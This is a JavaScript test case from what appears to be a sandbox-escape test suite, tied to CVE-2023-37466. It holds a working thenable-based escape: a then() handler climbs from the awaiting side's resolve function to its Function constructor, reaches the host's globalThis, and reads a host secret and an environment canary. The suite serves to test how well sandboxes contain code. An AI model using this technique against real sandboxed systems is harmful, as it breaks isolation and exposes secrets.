/*---
id: proto-thenable-resolve
title: A thenable completion value receives the awaiting code's resolve functions
category: prototype
goal: Make the code that awaits the guest's result call the guest's then() with its own resolve/reject functions, climb from them to their realm and leak the global and env canaries.
technique: Awaiting (or .then-ing) a thenable calls then(resolve, reject) with functions of the awaiting side; resolve.constructor('return globalThis')() runs in that side's realm. The Promise-capability cousin of the @@species bypass.
references: CVE-2023-37466, https://tc39.es/ecma262/#sec-promise-resolve-functions, https://gist.github.com/leesh3288/f693061e6523c97274ad5298eb2c74e9
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped
---*/
({
  then(resolve, reject) {
    let leaked;
    try {
      const F = resolve.constructor;
      const g = F('return globalThis')();
      leaked = {
        foreign: F !== Function,
        hostSecret: g.__hostSecret,
        env: g.process ? g.process.env.WORKBENCH_CANARY : undefined,
      };
    } catch (e) {
      leaked = String(e).slice(0, 120);
    }
    console.log('then() was called by the awaiting side:', JSON.stringify(leaked));
    resolve(leaked);
  },
});
